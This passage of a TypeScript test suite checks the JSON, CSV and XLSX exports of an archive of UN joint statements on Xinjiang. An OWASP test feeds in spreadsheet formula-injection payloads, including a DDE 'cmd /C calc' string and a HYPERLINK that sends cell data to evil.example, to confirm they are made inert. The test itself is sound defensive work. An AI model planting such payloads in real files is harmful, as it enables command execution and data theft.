import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ValueType, Workbook, type Worksheet } from 'exceljs';
import type { DataSource, EntityManager } from 'typeorm';
import {
  CSV_COLUMNS,
  ExportFilterError,
  exportAlignment,
  exportBundle,
  readBundleFile,
  spreadsheetRows,
  spreadsheetTables,
  toCsv,
  toJson,
  toNdjson,
  toXlsx,
  type Cell,
  type Database,
  type ExportFilter,
  type ImportSummary,
} from '../../src/index';
import { importBundle } from '../../src/import/importer/import-bundle';
import { parseBundleText } from '../../src/import/parser/parse-bundle';
import type { Bundle } from '../../src/import/parser/bundle.types';
import { BIN, runCli } from '../../../cli/test/run-cli';
import { snapshot } from '../support/snapshot';
import { openTestDatabase, testDatabaseUrl } from '../support/test-database';

/** Runs fn in a transaction that is always rolled back, so that each test leaves its database as it found it. */
async function rolledBack<T>(dataSource: DataSource, fn: (em: EntityManager) => Promise<T>): Promise<T> {
  const runner = dataSource.createQueryRunner();
  await runner.connect();
  await runner.startTransaction();
  try {
    return await fn(runner.manager);
  } finally {
    await runner.rollbackTransaction();
    await runner.release();
  }
}

/** Leaves only the built-in states (without aliases from bundles): an archive nothing was imported into. */
async function emptyArchive(dataSource: DataSource): Promise<void> {
  await dataSource.transaction(async (em) => {
    await em.query(`DELETE FROM statement`);
    await em.query(`DELETE FROM source`);
    await em.query(`DELETE FROM person`);
    await em.query(`DELETE FROM signatory WHERE NOT is_built_in`);
    await em.query(`DELETE FROM signatory_alias WHERE origin LIKE 'bundle:%'`);
  });
}

function expectNothingWritten(summary: ImportSummary): void {
  for (const kind of Object.values(summary)) expect(kind).toMatchObject({ created: 0, updated: 0 });
}

const keys = (records: { key: string }[] | undefined) => (records ?? []).map((r) => r.key);

/** The signatures CSV of the statements `filter` selects. */
async function signaturesCsv(em: EntityManager, filter?: ExportFilter): Promise<string> {
  return toCsv(spreadsheetTables(await spreadsheetRows(em, filter)).signatures);
}

/** RFC 4180 read back: records of fields, quotes undone (every record ends with CRLF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  return records;
}

/** A worksheet's rows as plain arrays of cell values (empty cells null), header first. */
function sheetRows(sheet: Worksheet): Cell[][] {
  const rows: Cell[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const cells: Cell[] = [];
    for (let c = 1; c <= sheet.columnCount; c++) cells.push((row.getCell(c).value as Cell | undefined) ?? null);
    rows.push(cells);
  });
  return rows;
}

async function readWorkbook(content: Buffer | string): Promise<Workbook> {
  const workbook = new Workbook();
  if (typeof content === 'string') await workbook.xlsx.readFile(content);
  else await workbook.xlsx.load(content as unknown as ArrayBuffer);
  return workbook;
}
const statement = (bundle: Bundle, key: string) => bundle.statements!.find((s) => s.key === key)!;

describe('exporting the archive', () => {
  let db: Database;
  let sample: DataSource;
  let empty: Database;
  let full: Bundle;
  beforeAll(async () => {
    [db, empty] = await Promise.all([openTestDatabase(), openTestDatabase()]);
    sample = db.dataSource;
    await emptyArchive(empty.dataSource);
    full = await exportBundle(sample.manager);
  });
  afterAll(async () => {
    await db?.close();
    await empty?.close();
  });

  it('holds every fact of the sample archive, in a stable order, with no null or empty field', async () => {
    expect(keys(full.statements)).toHaveLength(11);
    expect(keys(full.sources)).toHaveLength(12);
    expect(keys(full.people)).toEqual(['christoph-heusgen', 'michelle-bachelet', 'nicolas-de-riviere', 'zhang-jun']);
    for (const list of [full.sources, full.people, full.signatories, full.statements]) expect(keys(list)).toEqual([...keys(list)].sort());

    const counter = statement(full, 'hrc41-xinjiang-counter-letter');
    expect(counter.signatures).toHaveLength(51);
    expect(counter.respondsTo).toBe('hrc41-xinjiang-letter-22');
    expect(counter.countClaims?.map((c) => [c.count, c.source])).toEqual([
      [37, 'suaramuslim-2019-qatar'],
      [50, 'hrc41-g17'],
    ]);
    expect(counter.signatures!.find((g) => g.signatory === 'Qatar')).toEqual({
      signatory: 'Qatar',
      status: 'WITHDRAWN',
      joinedOn: '2019-07-12',
      withdrawnOn: '2019-07-18',
      evidence: [{ source: 'suaramuslim-2019-qatar' }, { source: 'yahoo-2019-qatar-withdraws' }],
    });
    expect(counter.signatures!.map((g) => g.signatory)).toContain('DR Congo');
    expect(statement(full, 'unga74-c3-xinjiang-belarus').signatures!.map((g) => g.signatory)).toEqual(expect.arrayContaining(['DRC', 'CAR', 'Guinea Bissau']));

    const france = statement(full, 'unga76-c3-xinjiang-france');
    expect(france).toMatchObject({ date: '2021-10-21', leadSignatory: 'FRA', deliveredBy: 'nicolas-de-riviere', topics: ['Xinjiang'] });
    expect(statement(full, 'unga76-c3-xinjiang-cuba').topics).toEqual(['Xinjiang', 'Hong Kong', 'Xizang']);
    expect(full.people!.find((p) => p.key === 'christoph-heusgen')!.roles).toEqual([
      { title: 'Permanent Representative of Germany to the United Nations', signatory: 'DEU', from: '2017', to: '2021' },
    ]);
    expect(full.people!.find((p) => p.key === 'michelle-bachelet')).toMatchObject({ aliases: ['Michele Bachelet'], roles: [{ from: '2018-09' }] });

    expect(full.signatories).toEqual([
      {
        key: 'gcc',
        kind: 'ORGANIZATION',
        name: 'Gulf Cooperation Council',
        aliases: ['GCC', 'Gulf countries'],
        members: ['ARE', 'BHR', 'KWT', 'OMN', 'QAT', 'SAU'],
      },
    ]);

    const json = toJson(full);
    expect(json).not.toMatch(/null|\[\]/);
    expect(parseBundleText(json, 'json').problems).toEqual([]);
    expect(parseBundleText(toNdjson(full), 'ndjson').problems).toEqual([]);
  });

  it('reads with a constant number of SQL statements', async () => {
    const all = await db.sql.measure(() => exportBundle(sample.manager));
    const some = await db.sql.measure(() => exportBundle(sample.manager, { topic: 'Tibet' }));
    expect(all.statements).toBe(10);
    expect(some.statements).toBe(10);
    expect((await db.sql.measure(() => spreadsheetRows(sample.manager))).statements).toBe(2);
    expect((await db.sql.measure(() => spreadsheetRows(sample.manager, { topic: 'Tibet' }))).statements).toBe(2);
  });

  it('round-trips: export, import into an empty archive, export again gives the same bytes', async () => {
    const json = toJson(full);
    const ndjson = toNdjson(full);
    await rolledBack(empty.dataSource, async (em) => {
      const summary = await importBundle(em, full);
      expect(summary.statements.created).toBe(11);
      expect(summary.signatures.created).toBe(214);
      const again = await exportBundle(em);
      expect(toJson(again)).toBe(json);
      expect(toNdjson(again)).toBe(ndjson);
      // Both files read back into the same bundle, and importing it once more writes nothing.
      const fromNdjson = parseBundleText(ndjson, 'ndjson').bundle!;
      expect(toJson(fromNdjson)).toBe(json);
      expect(toJson(parseBundleText(json, 'json').bundle!)).toBe(json);
      expectNothingWritten(await importBundle(em, fromNdjson));
    });
  });

  it('writes nothing when its export is imported back into the archive it came from', async () => {
    const before = await snapshot(sample);
    const summary = await sample.transaction((em) => importBundle(em, full));
    expectNothingWritten(summary);
    expect(await snapshot(sample)).toEqual(before);
  });

  it('exports an empty archive as empty collections', async () => {
    const bundle = await exportBundle(empty.dataSource.manager);
    expect(bundle).toEqual({ format: 'jointly-bundle/1', sources: [], people: [], signatories: [], statements: [] });
    expect(toNdjson(bundle)).toBe('');
    expect(await signaturesCsv(empty.dataSource.manager)).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  describe('with filters', () => {
    /** A filtered export imports on its own into an empty archive, which then exports to the same bytes. */
    async function expectSelfContained(bundle: Bundle): Promise<void> {
      await rolledBack(empty.dataSource, async (em) => {
        await importBundle(em, bundle);
        expect(toJson(await exportBundle(em))).toBe(toJson(bundle));
      });
    }

    /** Imported back into the sample archive it came from, a filtered export writes nothing. */
    async function expectNothingWrittenBack(bundle: Bundle): Promise<void> {
      const before = await snapshot(sample);
      expectNothingWritten(await sample.transaction((em) => importBundle(em, bundle)));
      expect(await snapshot(sample)).toEqual(before);
    }

    it('exports the statements of a topic with exactly the sources, people and signatories they reference', async () => {
      const tibet = await exportBundle(sample.manager, { topic: 'Tibet' });
      expect(keys(tibet.statements)).toEqual(['unga75-c3-xinjiang-germany']);
      expect(keys(tibet.sources)).toEqual(['appledaily-2020-10-07', 'defencepk-2020-full-list']);
      expect(keys(tibet.people)).toEqual(['christoph-heusgen']);
      expect(tibet.signatories).toEqual([]);
      expect(tibet.statements![0]).toEqual(statement(full, 'unga75-c3-xinjiang-germany'));
      await expectSelfContained(tibet);
      await expectNothingWrittenBack(tibet);
    });

    it('reads from and to as the start and the end of their period', async () => {
      const of2021 = await exportBundle(sample.manager, { from: '2021' });
      expect(keys(of2021.statements)).toEqual([
        'unga76-c3-xinjiang-china-reply',
        'unga76-c3-xinjiang-cuba',
        'unga76-c3-xinjiang-france',
        'unga76-c3-xinjiang-kuwait-gulf',
      ]);
      expect(keys(of2021.sources)).toEqual(['seed-article-2021-10-22']);
      expect(keys(of2021.people)).toEqual(['nicolas-de-riviere', 'zhang-jun']);
      await expectSelfContained(of2021);
      await expectNothingWrittenBack(of2021);

      expect(keys((await exportBundle(sample.manager, { to: '2019' })).statements)).toHaveLength(4);
      expect(keys((await exportBundle(sample.manager, { from: '2020-10', to: '2020-10' })).statements)).toEqual([
        'unga75-c3-xinjiang-cuba',
        'unga75-c3-xinjiang-germany',
        'unga75-c3-xinjiang-kuwait-gulf',
      ]);
      const hrc = await exportBundle(sample.manager, { forum: 'UN Human Rights Council', to: '2019-07-08' });
      expect(keys(hrc.statements)).toEqual(['hrc41-xinjiang-letter-22']);
    });

    it('keeps a reply\'s respondsTo when the statement it answers is outside the selection', async () => {
      const reply = await exportBundle(sample.manager, { from: '2019-07-09', to: '2019-07' });
      expect(keys(reply.statements)).toEqual(['hrc41-xinjiang-counter-letter']);
      expect(reply.statements![0]!.respondsTo).toBe('hrc41-xinjiang-letter-22');
      expect(keys(reply.sources)).toEqual(['hrc41-g17', 'suaramuslim-2019-qatar', 'tashkenttimes-2019-uzbekistan', 'yahoo-2019-qatar-withdraws']);
      // It reads back into the archive it came from, where the answered statement is.
      await expectNothingWrittenBack(reply);
    });

    it('brings the group a statement references along with its members, and the state records carrying names it uses', async () => {
      await rolledBack(sample, async (em) => {
        await importBundle(em, {
          format: 'jointly-bundle/1',
          signatories: [
            { key: 'test-turkish-names', kind: 'STATE', name: 'Turkey', iso3: 'TUR', aliases: ['Turkish Republic as printed'] },
            { key: 'test-friends', kind: 'GROUP', name: 'Test friends', members: ['gcc', 'FRA'] },
          ],
          statements: [
            {
              key: 'test-friends-statement',
              kind: 'JOINT_STATEMENT',
              title: 'A test statement',
              date: '2022',
              forum: 'Test forum',
              leadSignatory: 'test-friends',
              signatures: [{ signatory: 'Test friends' }, { signatory: 'Turkish Republic as printed' }],
            },
          ],
        });
        const bundle = await exportBundle(em, { forum: 'Test forum' });
        expect(bundle.signatories).toEqual([
          { key: 'gcc', kind: 'ORGANIZATION', name: 'Gulf Cooperation Council', aliases: ['GCC', 'Gulf countries'], members: ['ARE', 'BHR', 'KWT', 'OMN', 'QAT', 'SAU'] },
          { key: 'test-friends', kind: 'GROUP', name: 'Test friends', members: ['FRA', 'gcc'] },
          { key: 'test-turkish-names', kind: 'STATE', name: expect.any(String), iso3: 'TUR', aliases: ['Turkish Republic as printed'] },
        ]);
        expect(bundle.statements![0]).toMatchObject({ leadSignatory: 'test-friends', signatures: [{ signatory: 'Test friends' }, { signatory: 'Turkish Republic as printed' }] });
        await expectSelfContained(bundle);
        expectNothingWritten(await importBundle(em, bundle));
        // Unfiltered, the state record is there too, and the whole archive still round-trips.
        const all = await exportBundle(em);
        expect(keys(all.signatories)).toEqual(['gcc', 'test-friends', 'test-turkish-names']);
        await expectSelfContained(all);
      });
    });

    it('refuses a date that is not YYYY, YYYY-MM or YYYY-MM-DD', async () => {
      await expect(exportBundle(sample.manager, { from: '2021-13' })).rejects.toThrow(ExportFilterError);
      await expect(spreadsheetRows(sample.manager, { to: '21' })).rejects.toThrow(/to "21" is not a date of the form YYYY, YYYY-MM or YYYY-MM-DD/);
    });
  });

  it('leaves out soft-deleted records and the links to them, and still imports', async () => {
    await rolledBack(sample, async (em) => {
      await em.query(`UPDATE source SET deleted_at = now() WHERE key = 'hrc41-g17'`);
      await em.query(`UPDATE statement SET deleted_at = now() WHERE key = 'unga74-c3-xinjiang-uk'`);
      await em.query(`UPDATE person SET deleted_at = now() WHERE key = 'zhang-jun'`);
      await em.query(`UPDATE signatory SET deleted_at = now() WHERE key = 'gcc'`);
      const bundle = await exportBundle(em);
      expect(keys(bundle.statements)).not.toContain('unga74-c3-xinjiang-uk');
      expect(keys(bundle.sources)).not.toContain('hrc41-g17');
      expect(keys(bundle.people)).not.toContain('zhang-jun');
      expect(bundle.signatories).toEqual([]);
      expect(statement(bundle, 'unga74-c3-xinjiang-belarus').respondsTo).toBeUndefined();
      expect(statement(bundle, 'unga76-c3-xinjiang-china-reply').deliveredBy).toBeUndefined();
      const counter = statement(bundle, 'hrc41-xinjiang-counter-letter');
      expect(counter.evidence).toBeUndefined();
      expect(counter.countClaims).toEqual([{ count: 37, source: 'suaramuslim-2019-qatar' }]);
      expect(counter.signatures!.find((g) => g.signatory === 'Yemen')).toEqual({ signatory: 'Yemen' });
      expect(toJson(bundle)).not.toContain('hrc41-g17');
      await rolledBack(empty.dataSource, (target) => importBundle(target, bundle));
    });
  });

  describe('as CSV', () => {
    const header =
      'statement_key,statement_date,forum,session,signatory_iso3,signatory_name,name_as_written,status,joined_on,withdrawn_on,' +
      'statement_title,statement_kind,claimed_signatory_count,listed_signatory_count,list_status,topics,source_urls';
    const url = (key: string) => full.sources!.find((s) => s.key === key)!.url!;

    it('has one row per signature next to its statement, statements by date then key, signatures by position', async () => {
      const csv = await signaturesCsv(sample.manager);
      expect(csv.endsWith('\r\n')).toBe(true);
      expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const lines = csv.slice(0, -2).split('\r\n');
      expect(lines[0]).toBe(header);
      const [{ total }] = await sample.query(`SELECT count(*)::int AS total FROM signature`);
      expect(lines).toHaveLength(1 + total);
      expect(lines).toContain(
        'hrc41-xinjiang-counter-letter,2019-07-12,UN Human Rights Council,HRC41,QAT,Qatar,Qatar,WITHDRAWN,2019-07-12,2019-07-18,' +
          "Joint letter in support of China's Xinjiang policy (A/HRC/41/G/17),JOINT_LETTER,50,50,COMPLETE,Xinjiang," +
          ['hrc41-g17', 'suaramuslim-2019-qatar', 'tashkenttimes-2019-uzbekistan', 'yahoo-2019-qatar-withdraws'].map(url).join('; '),
      );
      expect(lines).toContain(
        'unga74-c3-xinjiang-belarus,2019-10-29,UN General Assembly Third Committee,74,COD,DR Congo,DRC,SIGNED,,,' +
          `"Joint statement in support of China on Xinjiang, read by Belarus",JOINT_STATEMENT,54,29,PARTIAL,Xinjiang,${url('shinn-2019-28-african')}; ${url('unwatch-2019-missing-48')}`,
      );
      // No claimed count, and a source without a URL: empty cells.
      expect(lines).toContain(
        'unga76-c3-xinjiang-kuwait-gulf,2021-10-21,UN General Assembly Third Committee,76,KWT,Kuwait,Kuwait,SIGNED,,,' +
          '"Joint statement of Gulf countries in support of China, read by Kuwait",JOINT_STATEMENT,,1,PARTIAL,Xinjiang,',
      );

      const records = parseCsv(csv);
      expect(records.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
      const order = records.slice(1).map((r) => `${r[1]} ${r[0]}`);
      expect(order).toEqual([...order].sort());
      const counter = records.filter((r) => r[0] === 'hrc41-xinjiang-counter-letter').map((r) => r[6]);
      expect(counter).toEqual(statement(full, 'hrc41-xinjiang-counter-letter').signatures!.map((g) => g.signatory));
      const germany = records.find((r) => r[0] === 'unga75-c3-xinjiang-germany')!;
      expect(germany.slice(10, 16)).toEqual([statement(full, 'unga75-c3-xinjiang-germany').title, 'JOINT_STATEMENT', '39', '39', 'COMPLETE', 'Xinjiang; Hong Kong; Tibet']);
    });

    it('quotes a field holding a comma or a double quote (RFC 4180), and keeps text from running as a formula', async () => {
      await rolledBack(sample, async (em) => {
        await importBundle(em, {
          format: 'jointly-bundle/1',
          statements: [
            {
              key: 'test-comma',
              kind: 'JOINT_STATEMENT',
              title: '=HYPERLINK("http://example.org","a test")',
              date: '2019-09',
              forum: 'Human Rights Council, 42nd session',
              session: 'HRC "42"',
              topics: ['@risk', '-1+1', 'plain'],
              signatures: [{ signatory: 'France' }, { signatory: 'Türkiye', joinedOn: '2019' }],
            },
          ],
        });
        const csv = await signaturesCsv(em, { forum: 'Human Rights Council, 42nd session' });
        const tail = `,"'=HYPERLINK(""http://example.org"",""a test"")",JOINT_STATEMENT,,2,,"'@risk; -1+1; plain",\r\n`;
        expect(csv).toBe(
          `${header}\r\n` +
            `test-comma,2019-09,"Human Rights Council, 42nd session","HRC ""42""",FRA,France,France,SIGNED,,${tail}` +
            `test-comma,2019-09,"Human Rights Council, 42nd session","HRC ""42""",TUR,${(await em.query(`SELECT name FROM signatory WHERE iso3 = 'TUR'`))[0].name},Türkiye,SIGNED,2019,${tail}`,
        );
        // The workbook's cell is text, with the same apostrophe: never a formula, also once edited or saved as CSV.
        const workbook = await readWorkbook(await toXlsx([spreadsheetTables(await spreadsheetRows(em, { forum: 'Human Rights Council, 42nd session' })).statements]));
        expect(workbook.getWorksheet('statements')!.getCell('B2').value).toBe(`'=HYPERLINK("http://example.org","a test")`);
        expect(workbook.getWorksheet('statements')!.getCell('B2').type).toBe(ValueType.String);
      });
    });

    it('makes every cell a spreadsheet would run inert, in CSV and XLSX alike, and keeps counts as numbers (OWASP)', async () => {
      const payloads = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1', '-2+3', '\t=1', '\r=1'];
      await rolledBack(sample, async (em) => {
        await importBundle(em, {
          format: 'jointly-bundle/1',
          signatories: payloads.map((name, i) => ({ key: `formula-${i}`, kind: 'ORGANIZATION' as const, name })),
          statements: payloads.map((title, i) => ({
            key: `formula-${i}`,
            kind: 'JOINT_STATEMENT' as const,
            title,
            date: '2031',
            forum: 'Formula forum',
            signatures: [{ signatory: `formula-${i}` }],
          })),
        });
        const rows = await spreadsheetRows(em, { forum: 'Formula forum' });
        const { statements, signatures } = spreadsheetTables(rows);
        const titleColumn = CSV_COLUMNS.indexOf('statement_title');
        const nameColumn = CSV_COLUMNS.indexOf('signatory_name');
        const listedColumn = CSV_COLUMNS.indexOf('listed_signatory_count');

        const csv = toCsv(signatures);
        const records = parseCsv(csv).slice(1);
        expect(records).toHaveLength(payloads.length);
        const titles = records.map((r) => r[titleColumn]);
        expect(new Set(titles)).toEqual(new Set(payloads.map((p) => `'${p}`)));
        expect(new Set(records.map((r) => r[nameColumn]))).toEqual(new Set(payloads.map((p) => `'${p}`)));
        // Each such field is quoted too: no line of the file has a bare field starting a formula.
        for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field).not.toMatch(/^[=+\-@\t\r]/);
        expect(records.every((r) => r[listedColumn] === '1')).toBe(true);

        const workbook = await readWorkbook(await toXlsx([statements, signatures]));
        const sheet = workbook.getWorksheet('signatures')!;
        const sheetTitles: unknown[] = [];
        for (let row = 2; row <= payloads.length + 1; row++) {
          for (const column of [titleColumn, nameColumn]) {
            const cell = sheet.getRow(row).getCell(column + 1);
            expect(cell.type).toBe(ValueType.String);
            expect(String(cell.value).startsWith("'")).toBe(true);
          }
          sheetTitles.push(sheet.getRow(row).getCell(titleColumn + 1).value);
          const listed = sheet.getRow(row).getCell(listedColumn + 1);
          expect(listed.type).toBe(ValueType.Number);
          expect(listed.value).toBe(1);
        }
        // XML reads a carriage return back as a line feed: the apostrophe before it is what matters.
        expect(new Set(sheetTitles)).toEqual(new Set(payloads.map((p) => `'${p}`.replace('\r', '\n'))));
      });
    });
  });

  describe('as a workbook', () => {
    let workbook: Workbook;
    beforeAll(async () => {
      const { statements, signatures } = spreadsheetTables(await spreadsheetRows(sample.manager));
      workbook = await readWorkbook(await toXlsx([statements, signatures]));
    });

    it('has a statements sheet and a signatures sheet, each with a bold, frozen header row', () => {
      expect(workbook.worksheets.map((w) => w.name)).toEqual(['statements', 'signatures']);
      for (const sheet of workbook.worksheets) {
        expect(sheet.getRow(1).font?.bold).toBe(true);
        expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      }
      // Columns as wide as their longest cell, up to 60 characters.
      const statements = workbook.getWorksheet('statements')!;
      expect(statements.getColumn(1).width).toBe('unga76-c3-xinjiang-kuwait-gulf'.length + 2);
      expect(statements.getColumn(2).width).toBe(60);
      expect(statements.getColumn(10).width).toBe('claimed_signatory_count'.length + 2);
      const [statementsHeader] = sheetRows(workbook.getWorksheet('statements')!);
      expect(statementsHeader).toEqual([
        'statement_key',
        'statement_title',
        'statement_date',
        'statement_kind',
        'forum',
        'session',
        'agenda_item',
        'un_symbol',
        'topics',
        'claimed_signatory_count',
        'listed_signatory_count',
        'list_status',
        'responds_to',
        'source_urls',
      ]);
      expect(sheetRows(workbook.getWorksheet('signatures')!)[0]).toEqual([...CSV_COLUMNS]);
    });

    it('holds every statement, with counts as numbers and dates as text in their partial form', () => {
      const rows = sheetRows(workbook.getWorksheet('statements')!);
      expect(rows).toHaveLength(1 + 11);
      expect(rows.find((r) => r[0] === 'unga76-c3-xinjiang-france')).toEqual([
        'unga76-c3-xinjiang-france',
        'Joint statement on the human rights situation in Xinjiang, read by France',
        '2021-10-21',
        'JOINT_STATEMENT',
        'UN General Assembly Third Committee',
        '76',
        null,
        null,
        'Xinjiang',
        43,
        1,
        'PARTIAL',
        null,
        null,
      ]);
      expect(rows.find((r) => r[0] === 'unga76-c3-xinjiang-cuba')?.slice(8, 13)).toEqual(['Xinjiang; Hong Kong; Xizang', 62, 1, 'PARTIAL', 'unga76-c3-xinjiang-france']);
    });

    it('holds every signature next to its statement, like the CSV', async () => {
      const rows = sheetRows(workbook.getWorksheet('signatures')!);
      expect(rows).toHaveLength(1 + 214);
      expect(rows.find((r) => r[0] === 'hrc41-xinjiang-counter-letter' && r[4] === 'QAT')?.slice(0, 15)).toEqual([
        'hrc41-xinjiang-counter-letter',
        '2019-07-12',
        'UN Human Rights Council',
        'HRC41',
        'QAT',
        'Qatar',
        'Qatar',
        'WITHDRAWN',
        '2019-07-12',
        '2019-07-18',
        "Joint letter in support of China's Xinjiang policy (A/HRC/41/G/17)",
        'JOINT_LETTER',
        50,
        50,
        'COMPLETE',
      ]);
      // The same cells as the CSV, read back (numbers as text there).
      const csv = parseCsv(await signaturesCsv(sample.manager));
      expect(rows.map((r) => r.map((c) => (c === null ? '' : String(c))))).toEqual(csv);
    });
  });

  describe('the alignment table', () => {
    const keys3 = ['hrc41-xinjiang-letter-22', 'unga74-c3-xinjiang-uk', 'unga75-c3-xinjiang-germany'];

    it('is the signatoryAlignment query: one row per signatory, one column per statement in the order given', async () => {
      const alignment = await exportAlignment(sample.manager, [keys3[2]!, keys3[0]!, 'hrc41-xinjiang-counter-letter']);
      expect(alignment.statementKeys).toEqual([keys3[2], keys3[0], 'hrc41-xinjiang-counter-letter']);
      expect(alignment.rows.find((r) => r.signatoryIso3 === 'QAT')).toEqual({ signatoryName: 'Qatar', signatoryIso3: 'QAT', statuses: [null, null, 'WITHDRAWN'], signedCount: 0 });
      expect(alignment.rows.find((r) => r.signatoryIso3 === 'FRA')).toEqual({ signatoryName: 'France', signatoryIso3: 'FRA', statuses: ['SIGNED', 'SIGNED', null], signedCount: 2 });
      const counts = alignment.rows.map((r) => r.signedCount);
      expect(counts).toEqual([...counts].sort((a, b) => b - a));
    });

    it('names every unknown key', async () => {
      await expect(exportAlignment(sample.manager, [keys3[0]!, 'no-such-statement', 'nor-this'], '--alignment')).rejects.toThrow(
        new ExportFilterError(['--alignment: no statement has the keys "no-such-statement", "nor-this"']),
      );
      await expect(exportAlignment(sample.manager, ['no-such-statement'])).rejects.toThrow('statements: no statement has the key "no-such-statement"');
    });
  });
});

describe('jointly export', () => {
  let url: string;
  let dir: string;
  beforeAll(async () => {
    url = await testDatabaseUrl();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'jointly-export-'));
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('writes a CSV file and says what it wrote on standard error', async () => {
    const file = path.join(dir, 'signatures.csv');
    const result = await runCli(['--database-url', url, 'export', '--format', 'csv', '--out', file]);
    expect(result.stderr).toBe(`exported 214 signatures of 11 statements to ${file}\n`);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('');
    const csv = fs.readFileSync(file, 'utf8');
    expect(csv.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(csv.split('\r\n')).toHaveLength(1 + 214 + 1);
  });

  it('takes the format from the extension, and writes a bundle the importer reads back', async () => {
    const file = path.join(dir, 'archive.ndjson');
    const result = await runCli(['--database-url', url, 'export', '--out', file]);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(`exported 11 statements, 12 sources, 4 people, 1 signatory to ${file}\n`);
    const bundle = readBundleFile(file);
    expect(keys(bundle.statements)).toHaveLength(11);
    expect(fs.readFileSync(file, 'utf8')).toBe(toNdjson(bundle));
  });

  it('writes JSON to standard output by default, filtered', async () => {
    const result = await runCli(['--database-url', url, 'export', '--topic', 'Tibet', '--from', '2020', '--to', '2020-10-06']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    const bundle = JSON.parse(result.stdout) as Bundle;
    expect(keys(bundle.statements)).toEqual(['unga75-c3-xinjiang-germany']);
    expect(result.stdout).toBe(toJson(bundle));
  });

  it('writes a workbook for --out FILE.xlsx, and to standard output for --out -', async () => {
    const file = path.join(dir, 'archive.xlsx');
    const result = await runCli(['--database-url', url, 'export', '--out', file, '--from', '2021']);
    expect(result.stderr).toBe(`exported 4 signatures of 4 statements to ${file}\n`);
    expect(result.code).toBe(0);
    const workbook = await readWorkbook(file);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['statements', 'signatures']);
    expect(sheetRows(workbook.getWorksheet('statements')!).map((r) => r[0])).toEqual([
      'statement_key',
      'unga76-c3-xinjiang-china-reply',
      'unga76-c3-xinjiang-cuba',
      'unga76-c3-xinjiang-france',
      'unga76-c3-xinjiang-kuwait-gulf',
    ]);
    expect(sheetRows(workbook.getWorksheet('signatures')!).find((r) => r[0] === 'unga76-c3-xinjiang-france')?.slice(4, 8)).toEqual(['FRA', 'France', 'France', 'SIGNED']);

    const piped = await runCli(['--database-url', url, 'export', '--format', 'xlsx', '--out', '-', '--from', '2021']);
    expect(piped.code).toBe(0);
    expect(piped.stderr).toBe('');
    const fromStdout = await readWorkbook(piped.stdoutBytes);
    expect(sheetRows(fromStdout.getWorksheet('statements')!)).toEqual(sheetRows(workbook.getWorksheet('statements')!));
  });

  /** `jointly ARGS…` in a directory, optionally under a file size limit of `maxFileBlocks` 512-byte blocks (ulimit -f). */
  function cliIn(cwd: string, args: string[], maxFileBlocks?: number): Promise<{ code: number | null; stdout: string; stderr: string }> {
    const limit = maxFileBlocks === undefined ? '' : `ulimit -f ${maxFileBlocks} && `;
    const { DATABASE_URL: _drop, ...env } = process.env;
    return new Promise((resolve, reject) => {
      const child = spawn('sh', ['-c', `${limit}exec "$0" "$@"`, process.execPath, BIN, ...args], { cwd, env });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
  }

  it('writes --out - to standard output, never to a file named "-"', async () => {
    const cwd = fs.mkdtempSync(path.join(dir, 'stdout-'));
    const result = await cliIn(cwd, ['--database-url', url, 'export', '--format', 'csv', '--out', '-']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    expect(result.stdout.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(fs.readdirSync(cwd)).toEqual([]);
  });

  it('writes --out whole or not at all: a failed write leaves the previous file and no temporary file', async () => {
    const cwd = fs.mkdtempSync(path.join(dir, 'atomic-'));
    const file = path.join(cwd, 'signatures.csv');
    fs.writeFileSync(file, 'the previous export\n');
    // The CSV is ~60 KB; the limit lets 1 KB through, then the write fails (EFBIG).
    const failed = await cliIn(cwd, ['--database-url', url, 'export', '--out', file], 2);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toMatch(new RegExp(`^jointly: could not write ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(EFBIG\\).*nothing was changed\n$`));
    expect(fs.readFileSync(file, 'utf8')).toBe('the previous export\n');
    expect(fs.readdirSync(cwd)).toEqual(['signatures.csv']);

    const written = await cliIn(cwd, ['--database-url', url, 'export', '--out', file]);
    expect(written.code).toBe(0);
    expect(fs.readFileSync(file, 'utf8').split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(fs.readdirSync(cwd)).toEqual(['signatures.csv']);
  });

  it('writes the alignment table of --alignment as CSV, or as a workbook', async () => {
    const keys3 = 'hrc41-xinjiang-letter-22,unga74-c3-xinjiang-uk,unga75-c3-xinjiang-germany';
    const result = await runCli(['--database-url', url, 'export', '--alignment', keys3]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const lines = result.stdout.split('\r\n');
    expect(lines[0]).toBe(`signatory_name,signatory_iso3,${keys3},signed_count`);
    expect(lines).toContain('France,FRA,SIGNED,SIGNED,SIGNED,3');
